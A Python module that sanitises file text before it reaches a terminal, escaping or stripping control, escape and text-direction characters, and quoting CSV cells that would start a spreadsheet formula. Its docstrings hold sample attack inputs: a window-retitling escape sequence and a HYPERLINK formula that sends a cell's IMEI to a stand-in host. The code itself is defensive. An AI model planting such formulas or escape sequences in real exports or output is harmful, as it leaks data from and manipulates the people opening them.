"""The one sanitiser for text read from a file before it reaches a terminal.

A report, an answers file, an inventory or a CSV export can hold anything,
including terminal escape sequences: ``ESC ]0;...BEL`` retitles the window and
OSC 52 writes the clipboard. ``safe`` shows every character that could act on a
terminal as a visible backslash escape instead, so the text stays readable and
inert: a line break or tab as ``\\n``, ``\\r``, ``\\t``, other C0 controls, DEL and
C1 controls as ``\\x1b``, line and paragraph
separators and the text-direction controls as ``\\u202e``. ``strip_unsafe`` takes
the same characters out instead, for a value kept as one line (what ``detect``
reads from a device).
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "UNSAFE", "safe", "spreadsheet_cell", "strip_unsafe"]

#: C0, DEL and C1 controls; line and paragraph separators; the bidirectional controls
#: (embeddings, overrides, isolates, marks), which reorder what a line shows; lone
#: surrogates (a name the system could not decode), which no terminal can be sent.
UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\ud800-\udfff]"
)
#: Whole escape sequences: ESC and CSI ones with their parameters, then OSC, DCS, SOS,
#: PM and APC strings up to their terminator (BEL or ST), in 7-bit and 8-bit forms.
_SEQUENCES = re.compile(
    r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]"
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f]).*?(?:\x07|\x1b\\|\x9c|$)"
    r"|\x1b[ -/]*[0-~]?",
    re.DOTALL,
)
#: The unsafe characters that end a line (as ``str.splitlines`` reads them), and tab.
_BREAKS = re.compile("[\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029]")


_NAMED = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def safe(text: str) -> str:
    """``text`` with every control and direction character shown as a visible escape.

    >>> safe("Ada\\x1b]0;pwned\\x07")
    'Ada\\\\x1b]0;pwned\\\\x07'
    """
    if text.isascii() and text.isprintable():
        return text
    return UNSAFE.sub(_escape, text)


def strip_unsafe(text: str) -> str:
    """``text`` with what ``safe`` would escape taken out: whole escape sequences (so
    their parameters do not stay behind as text), a line break or tab as a space,
    every other unsafe character dropped.

    >>> strip_unsafe("\\x1b[31mPixel\\x1b[0m\\n8\\u202e")
    'Pixel 8'
    """
    if text.isascii() and text.isprintable():
        return text
    return UNSAFE.sub("", _BREAKS.sub(" ", _SEQUENCES.sub("", text)))


#: What a spreadsheet reads as the start of a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: str) -> str:
    """A CSV cell a spreadsheet shows as text: one that would start a formula gets a ``'``.

    ``=HYPERLINK("http://x/?"&C2,"click")`` would send a neighbouring cell (an IMEI)
    away when the sheet is opened; ``'=HYPERLINK(...)`` is only text.
    """
    return "'" + value if value.startswith(FORMULA_STARTS) else value
